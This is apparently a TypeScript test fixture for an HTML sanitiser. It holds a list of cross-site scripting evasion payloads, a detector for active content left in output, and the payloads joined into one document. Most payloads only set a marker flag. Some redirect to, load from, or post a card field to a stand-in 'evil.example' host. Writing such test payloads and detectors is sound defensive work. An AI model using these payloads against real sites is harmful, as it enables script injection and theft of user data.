/**
 * Script payloads in the spirit of the OWASP XSS filter evasion cheat sheet: each one, if it
 * survived, would run `window.__xss = 1`, navigate, submit or load something from elsewhere.
 * Used against every writer of rich text (sanitiser, admin API, CLI import, seed, migration)
 * and in the browser. No NUL bytes: the API refuses those before any writer sees them.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>window.__xss=1</script>',
  '"><script>window.__xss=1</script>',
  '<<script>script>window.__xss=1<</script>/script>',
  '<IMG SRC="javascript:window.__xss=1">',
  '<IMG SRC=JaVaScRiPt:window.__xss=1>',
  '<a href="jav&#x09;ascript:window.__xss=1">tab</a>',
  '<a href="jav&#x0A;ascript:window.__xss=1">newline</a>',
  '<a href="jav&#x0D;ascript:window.__xss=1">return</a>',
  '<a href="jav\tascript:window.__xss=1">raw tab</a>',
  '<a href=" &#14;  javascript:window.__xss=1">leading space</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">decimal</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058window.__xss=1">long decimal</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.__xss=1">hex</a>',
  '<a href="javascript&colon;window.__xss=1">named colon</a>',
  '<a href="JaVaScRiPt:window.__xss=1">mixed case</a>',
  '<a href="java\u0001script:window.__xss=1">control character</a>',
  '<a href="vbscript:window.__xss=1">vbscript</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">data link</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIi8+">',
  '<img srcset="javascript:window.__xss=1 1x, https://example.com/a.jpg 2x">',
  '<a href="//evil.example/">protocol relative</a>',
  '<img src=x onerror="window.__xss=1">',
  '<img src=x OnErRoR=window.__xss=1>',
  '<img """><script>window.__xss=1</script>">',
  '<p onmouseover="window.__xss=1">hover</p>',
  '<details open ontoggle="window.__xss=1"><summary>x</summary></details>',
  '<body onload=window.__xss=1>',
  '<svg onload="window.__xss=1"></svg>',
  '<svg><script>window.__xss=1</script></svg>',
  '<svg><a xlink:href="javascript:window.__xss=1"><text x="20" y="20">svg link</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '<math href="javascript:window.__xss=1">math link</math>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
  '<template><script>window.__xss=1</script></template>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example/steal"><input name="card"><button>Pay</button></form>',
  '<button formaction="javascript:window.__xss=1">go</button>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<iframe src="javascript:parent.__xss=1"></iframe>',
  '<object data="javascript:window.__xss=1"></object>',
  '<embed src="javascript:window.__xss=1">',
  '<style>body{background:url("javascript:window.__xss=1")}</style>',
  '<div style="background-image: url(javascript:window.__xss=1)">style url</div>',
  '<div style="width: expression(window.__xss=1)">style expression</div>',
  '<a href="https://example.com" target="_top">frame buster</a>',
  '<div id="root" name="cookie">clobber</div>',
];

const FORBIDDEN_TAGS = /<\s*\/?\s*(script|style|svg|math|iframe|frame|object|embed|form|input|button|base|meta|link|template|noscript|body|details)\b/i;
const ALLOWED_ATTRIBUTE_NAMES = new Set(['href', 'target', 'rel', 'title', 'src', 'srcset', 'alt', 'width', 'height', 'loading', 'colspan', 'rowspan', 'scope', 'class']);
const SAFE_URL = /^(?!\/\/)(https?:|mailto:|tel:|\/|#|\?|[^:/?#]*($|[/?#]))/i;

const decode = (value: string): string =>
  value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, decimal: string) => String.fromCodePoint(Number.parseInt(decimal, 10)))
    .replace(/&colon;/gi, ':')
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');

/**
 * What in the given (sanitised) HTML could still run, navigate, submit or load from elsewhere:
 * an empty list when nothing. Reads tags and attributes as a browser would (entities decoded,
 * control characters and white space in URLs ignored).
 */
export const activeContentIn = (html: string): readonly string[] => {
  const problems: string[] = [];
  if (FORBIDDEN_TAGS.test(html)) problems.push(`forbidden tag in ${html}`);
  for (const tag of html.matchAll(/<([a-z][a-z0-9]*)([^>]*)>/gi)) {
    for (const attribute of (tag[2] ?? '').matchAll(/([^\s=/>]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g)) {
      const name = (attribute[1] ?? '').toLowerCase();
      const value = decode(attribute[2] ?? attribute[3] ?? attribute[4] ?? '').replace(/[\u0000-\u0020\u007f-\u009f]/g, '');
      if (!ALLOWED_ATTRIBUTE_NAMES.has(name)) problems.push(`attribute ${name} in ${tag[0]}`);
      if ((name === 'href' || name === 'src') && !SAFE_URL.test(value)) problems.push(`URL ${value} in ${tag[0]}`);
      if (name === 'srcset' && value.split(',').some((part) => !SAFE_URL.test(part.trim()))) problems.push(`srcset ${value} in ${tag[0]}`);
      if (name === 'target' && value !== '_blank') problems.push(`target ${value} in ${tag[0]}`);
    }
  }
  return problems;
};

/** All payloads as one document, as an attacker would paste them into one field. */
export const XSS_DOCUMENT = XSS_PAYLOADS.map((payload) => `<p>${payload}</p>`).join('\n');
